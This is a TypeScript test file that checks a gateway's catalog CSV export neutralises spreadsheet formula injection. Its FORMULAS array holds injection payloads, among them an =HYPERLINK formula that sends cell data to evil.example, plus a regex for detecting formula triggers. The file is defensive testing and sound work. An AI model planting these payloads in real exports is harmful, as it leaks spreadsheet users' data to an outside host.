import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, CSV_HEADER } from '../../gateway/platform/catalog-export.ts';
import { startStack, STATE_KINDS, type Stack } from '../support/stack.ts';
import { as } from '../support/tokens.ts';
import { startRecordingSubgraph, type RecordingServer } from '../support/attackers/recording-subgraph.ts';

/**
 * A provider writes the catalog's texts (resource name, update cycle, conditions). The GB/T 21063 CSV
 * export is opened in spreadsheets on government desktops, where a cell starting with `=`, `+`, `-`,
 * `@`, TAB or CR runs as a formula (`=HYPERLINK(…)` sends what the reader clicks elsewhere).
 */
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', ' =1+1', '＝1+1'];
const TRIGGER = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]|^\s+[=+\-@]/;
const gql = (s: string) => JSON.stringify(s);

const SDL = `
  type Query { formulaThing(id: ID!): FormulaThing @share(type: UNCONDITIONAL) }
  type FormulaThing @key(fields: "id")
    @resource(code: "TAX-CSV", name: ${gql(FORMULAS[0]!)}, category: DEPARTMENT, provider: "tax", updateCycle: ${gql(FORMULAS[1]!)}, summary: ${gql(FORMULAS[3]!)}) {
    ${gql(FORMULAS[2]!)}
    id: ID! @share(type: UNCONDITIONAL)
    ${FORMULAS.map((f, i) => `f${i}: String @share(type: CONDITIONAL, condition: ${gql(f)})`).join('\n    ')}
  }`;

/** RFC 4180: quoted cells may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
    else cell += c;
  }
  if (cell !== '' || row.length > 0) { row.push(cell); rows.push(row); }
  return rows;
}

describe('csvCell', () => {
  it.each(FORMULAS)('neutralises %j and keeps its text', (formula) => {
    const [[cell]] = parseCsv(`${csvCell(formula)}\r\n`) as [[string]];
    expect(cell).toBe(`'${formula}`);
    expect(TRIGGER.test(cell)).toBe(false);
  });

  it('leaves ordinary text, and text with a sign inside it, as it is', () => {
    expect(csvCell('人口基础信息')).toBe('人口基础信息');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('2026-01-01')).toBe('2026-01-01');
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
  });
});

describe.each(STATE_KINDS)('the catalog CSV export with a provider\'s formulas (%s state)', (stateKind) => {
  let stack: Stack;
  let subgraph: RecordingServer;
  beforeAll(async () => {
    stack = await startStack({ state: stateKind });
    subgraph = await startRecordingSubgraph(SDL, { Query: { formulaThing: (_: unknown, { id }: { id: string }) => ({ id }) } });
  });
  afterAll(async () => { await subgraph?.close(); await stack?.close(); });

  it('carries no cell a spreadsheet would run, and keeps the texts', async () => {
    const published = await stack.query('mutation($u: String!) { publishSubgraph(name: "tax-csv", url: $u) { ok errors { code message } } }',
      { u: subgraph.url }, await as('tax', { roles: ['provider'] }));
    expect(published.body.data.publishSubgraph).toEqual({ ok: true, errors: [] });

    const response = await fetch(`${stack.gatewayUrl}/catalog/export.csv`);
    const rows = parseCsv((await response.text()).replace(/^\uFEFF/, ''));
    expect(rows[0]).toEqual(CSV_HEADER);
    const ours = rows.filter((r) => r[1] === 'TAX-CSV');
    expect(ours.length).toBe(FORMULAS.length + 2); // Query.formulaThing, FormulaThing.id and one field per formula
    for (const row of rows) {
      expect(row).toHaveLength(CSV_HEADER.length);
      for (const cell of row) expect(TRIGGER.test(cell), `cell ${JSON.stringify(cell)}`).toBe(false);
    }
    expect(ours[0]![0]).toBe(`'${FORMULAS[0]}`);
    expect(ours.map((r) => r[6])).toEqual(expect.arrayContaining(FORMULAS.slice(1).map((f) => `'${f}`)));
  });
});
